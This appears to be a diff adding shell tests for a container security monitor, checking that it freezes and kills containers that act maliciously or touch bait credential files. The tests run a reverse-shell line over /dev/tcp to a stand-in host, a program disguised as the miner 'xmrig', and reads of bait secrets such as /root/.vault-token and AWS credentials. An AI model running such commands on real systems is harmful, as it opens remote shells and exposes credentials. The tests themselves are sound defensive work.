@@ -134,6 +134,84 @@ BAITS="/root/.aws/credentials /root/.pypirc /root/.ssh/id_ed25519_deploy /root/.
 	gone c6
 }
 
+watcher_of() { # NAME: pid
+	local s
+	s=$(sed -n 's/^supervisor *= *\([0-9]*\).*/\1/p' "$COI_ROOT/containers/$1/container.ini")
+	ps -eo pid=,ppid=,comm= | awk -v s="$s" '$2 == s && $3 == "coi-watch" { print $1 }'
+}
+
+frozen() {
+	[ "$(coi container list --format json | jq -r --arg n "$1" '.[] | select(.name == $n).status')" = Frozen ]
+}
+
+# As on a machine that is slow: all of it has happened before any of it is judged.
+late() { # NAME COMMAND...
+	local pid
+	pid=$(watcher_of "$1")
+	kill -STOP "$pid"
+	inside "$@" || true
+	kill -CONT "$pid"
+}
+
+actions() { # NAME
+	jq -r 'select(.action == "paused" or .action == "killed").action' "$A/$1.jsonl" | uniq | xargs
+}
+
+@test "frozen for what is high: what is critical and still to be heard kills it" {
+	settings 'canaries = true'
+	# A program by its name, then a shell on a socket: both from the ring of programs.
+	launch z1
+	printf 'ln -s /bin/sleep /tmp/xmrig; /tmp/xmrig 0\nexec 3<>/dev/tcp/public.test/80\ntimeout 1 sh <&3 >&3 2>&3\n' >"$T/ws/x"
+	coi file push "$T/ws/x" z1:/tmp/x
+	late z1 bash /tmp/x
+	within 10 not_running z1
+	[ "$(actions z1)" = "paused killed" ]
+	gone z1
+	# The bait's name on a command line, then the bait: from two sources.
+	launch z2
+	late z2 cat /root/.vault-token
+	within 10 not_running z2
+	has "$A/z2.jsonl" '.action == "killed" and .title == "Bait taken"'
+	gone z2
+}
+
+@test "frozen before it took the bait: it takes it when it is let go, and is killed" {
+	settings 'canaries = true'
+	launch z3
+	# Frozen by its second program, with the third at hand.
+	inside z3 bash -c 'ln -s /bin/sleep /tmp/xmrig; /tmp/xmrig 0.5; read -r x </root/.vault-token; touch /root/free' 3>&- >/dev/null 2>&1 &
+	local pid=$!
+	within 10 frozen z3
+	[ "$(actions z3)" = paused ]
+	coi unfreeze z3
+	within 10 not_running z3
+	[ "$(actions z3)" = "paused killed" ]
+	wait "$pid" || true
+	gone z3
+}
+
+written() { # NAME: bytes
+	cat "$COI_ROOT/containers/$1"/upper/root/n[1-4] | wc -c
+}
+
+@test "what is frozen does nothing more when it is killed" {
+	local pid before n
+	settings 'auto_kill_on_critical = false'
+	for n in 1 2 3; do
+		launch y1
+		inside y1 bash -c 'for i in 1 2 3 4; do (while :; do printf x; done >/root/n$i) & done
+			sleep 0.5; ln -s /bin/sleep /tmp/xmrig; /tmp/xmrig 60' 3>&- >/dev/null 2>&1 &
+		pid=$!
+		within 10 frozen y1
+		before=$(written y1)
+		[ "$before" -gt 0 ]
+		coi container stop --force y1
+		[ "$(written y1)" = "$before" ]
+		wait "$pid" || true
+		gone y1
+	done
+}
+
 @test "canaries: programs at their ordinary work do not touch them" {
 	settings 'canaries = true'
 	launch c7
